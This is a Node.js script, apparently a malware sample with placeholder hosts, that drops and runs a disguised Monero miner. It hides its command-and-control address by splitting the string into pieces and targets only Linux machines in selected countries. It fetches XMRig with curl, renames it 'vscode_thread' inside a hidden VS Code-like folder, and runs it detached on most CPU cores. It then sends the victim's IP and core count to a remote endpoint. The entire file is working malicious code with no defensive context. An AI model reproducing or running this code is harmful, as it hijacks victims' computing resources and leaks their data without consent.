const { execSync, spawn } = require("child_process");
const fs = require("fs");
const https = require("https");
const os = require("os");

const C2 = ["http://80", ".", "example", ".", "test:3000"].join("");
const home = os.homedir();

function getIp() {
  return new Promise((resolve) => {
    https.get("https://ipinfo.example.test/json", (res) => {
      let s = "";
      res.on("data", (d) => (s += d));
      res.on("end", () => { try { resolve(JSON.parse(s)); } catch { resolve(null); } });
    }).on("error", () => resolve(null));
  });
}

const REGIONS = ["CN", "HK", "RU", "BY", "IR"];

(async () => {
  if (process.platform !== "linux") return;
  const info = await getIp();
  if (!info || !REGIONS.includes(info.country)) return;
  const cores = Math.max(1, Math.floor(os.cpus().length * 0.75));
  const dir = `${home}/.vscode-server-insiders`;
  const conf = { autosave: true, cpu: { enabled: true, "max-threads-hint": 75, priority: 1 }, pools: [{ url: "pool.xmr.example.test:443", user: "4000000000000000000000000000000000000000000000", pass: os.hostname(), coin: "monero", tls: true, "nicehash": true }] };
  try {
    execSync(`mkdir -p ${dir} && curl -sL ${C2}/file_share/vscode/xmrig.tar.gz -o ${dir}/v.tgz && tar -xzf ${dir}/v.tgz -C ${dir} && mv ${dir}/xmrig ${dir}/vscode_thread && chmod +x ${dir}/vscode_thread`, { stdio: "ignore" });
    fs.writeFileSync(`${dir}/config.json`, JSON.stringify(conf));
    spawn(`${dir}/vscode_thread`, ["-c", `${dir}/config.json`, "-t", String(cores), "-B"], { detached: true, stdio: "ignore" }).unref();
    const req = https.request({ host: "sw.push.example.test", path: "/send?token=000", method: "POST" });
    req.on("error", () => {});
    req.end(JSON.stringify({ title: "rig up", body: `${info.ip} ${cores}` }));
  } catch {}
})();
